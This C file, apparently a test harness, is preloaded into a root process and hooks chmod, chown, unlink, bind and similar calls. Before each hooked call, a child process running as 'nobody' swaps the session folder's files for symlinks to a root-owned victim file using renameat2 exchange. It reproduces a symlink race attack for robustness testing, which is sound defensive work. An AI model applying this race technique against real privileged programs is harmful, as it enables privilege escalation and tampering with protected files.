/* Preloaded into a collector of root: before each call that may follow a path in the session's folder ($FOLDER), user
 * `nobody` exchanges whatever lies there for links to root's file $VICTIM, if it may. */
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

enum { NOBODY = 65534 };

static void exchange_all(const char *folder, const char *victim) {
  static const char *const names[] = {"arena", "switches", "control"};
  char link[4096], name[4096];
  snprintf(link, sizeof link, "%s/link", folder);
  for (int i = 0; i < 3; ++i) {
    snprintf(name, sizeof name, "%s/%s", folder, names[i]);
    unlink(link);
    if (symlink(victim, link) == 0) renameat2(AT_FDCWD, link, AT_FDCWD, name, RENAME_EXCHANGE);
  }
}

static void race(void) {
  static int in_a_race;
  const char *folder = getenv("FOLDER"), *victim = getenv("VICTIM");
  if (in_a_race++ == 0 && folder != NULL && victim != NULL) {
    const pid_t child = fork();
    if (child == 0) {
      if (setgid(NOBODY) == 0 && setuid(NOBODY) == 0) exchange_all(folder, victim);
      _exit(0);
    }
    waitpid(child, NULL, 0);
  }
  --in_a_race;
}

#define RACED(name, parameters, arguments)                              \
  int name parameters {                                                 \
    int(*real) parameters = (int(*) parameters)dlsym(RTLD_NEXT, #name); \
    race();                                                             \
    return real arguments;                                              \
  }

RACED(bind, (int fd, const struct sockaddr *address, socklen_t size), (fd, address, size))
RACED(listen, (int fd, int n), (fd, n))
RACED(chmod, (const char *path, mode_t mode), (path, mode))
RACED(fchmodat, (int fd, const char *path, mode_t mode, int flags), (fd, path, mode, flags))
RACED(fchmod, (int fd, mode_t mode), (fd, mode))
RACED(chown, (const char *path, uid_t user, gid_t group), (path, user, group))
RACED(fchown, (int fd, uid_t user, gid_t group), (fd, user, group))
RACED(unlink, (const char *path), (path))
RACED(unlinkat, (int fd, const char *path, int flags), (fd, path, flags))
RACED(rmdir, (const char *path), (path))
